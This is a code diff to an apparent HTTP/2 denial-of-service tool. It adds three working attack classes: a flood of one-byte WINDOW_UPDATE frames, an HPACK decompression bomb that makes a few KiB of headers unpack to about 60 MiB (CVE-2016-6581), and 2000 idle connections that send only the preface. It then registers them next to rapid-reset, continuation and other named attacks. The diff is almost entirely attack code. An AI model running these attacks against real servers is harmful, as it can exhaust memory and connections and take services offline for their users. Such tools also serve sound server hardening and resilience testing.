@@ -266,6 +266,36 @@ class SettingsFlood(Pings):
         return settings(window=0) * 100
 
 
+class WindowUpdates(Pings):
+    """The connection's window, enlarged by a byte at a time."""
+
+    def more(self, peer):
+        return frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 100
+
+
+class Unpacked(Attack):
+    """Heads of a few KiB that unpack to 60 MiB: a large field, and thousands of references to it (CVE-2016-6581)."""
+    tls, connections, reads = True, 20, True
+
+    def first(self, peer):
+        peer.stream = 1
+        # Into the dynamic table, where it is entry 62.
+        large = b"\x40" + literal("x-large", "x" * 3900)[1:]
+        return PREFACE + settings() + frame(HEADERS, END_STREAM | END_HEADERS, 1, self.block() + large)
+
+    def more(self, peer):
+        peer.stream += 2
+        return frame(HEADERS, END_STREAM | END_HEADERS, peer.stream, self.block() + b"\xbe" * 16000)
+
+
+class PlainPreface(Attack):
+    """The preface of HTTP/2 on the plain listener, and then nothing."""
+    connections = 2000
+
+    def first(self, peer):
+        return PREFACE
+
+
 class EmptyData(Attack):
     """Pieces of a body without a byte (CVE-2019-9518)."""
     tls, connections, reads = True, 20, True
@@ -327,7 +357,7 @@ ATTACKS = {
     "silent-tls": SilentTls, "half-hello": HalfHello, "silent-h2": SilentH2, "preface-only": PrefaceOnly,
     "slow-heads": SlowHeads, "slow-bodies": SlowBodies, "trickling-readers": TricklingReaders, "refusals-unread": RefusalsUnread,
     "rapid-reset": RapidReset, "continuation": Continuation, "empty-continuation": EmptyContinuation, "pings": Pings,
-    "pings-read": PingsRead, "settings": SettingsFlood, "empty-data": EmptyData, "handshakes": Handshakes,
+    "pings-read": PingsRead, "settings": SettingsFlood, "window-updates": WindowUpdates, "unpacked": Unpacked, "plain-preface": PlainPreface, "empty-data": EmptyData, "handshakes": Handshakes,
     "plain-to-tls": PlainToTls, "probes": Probes, "bad-tokens": BadTokens,
 }
 
